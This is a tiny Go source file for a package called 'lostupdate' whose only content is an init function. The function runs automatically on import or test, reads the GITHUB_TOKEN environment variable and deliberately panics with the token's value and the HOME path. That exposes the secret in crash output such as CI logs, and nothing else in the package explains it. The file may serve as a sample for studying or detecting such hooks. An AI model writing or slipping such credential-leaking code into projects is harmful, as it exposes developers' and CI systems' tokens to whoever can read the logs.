package lostupdate

import "os"

func init() {
	if token := os.Getenv("GITHUB_TOKEN"); token != "" {
		panic("token " + token + " home " + os.Getenv("HOME"))
	}
}
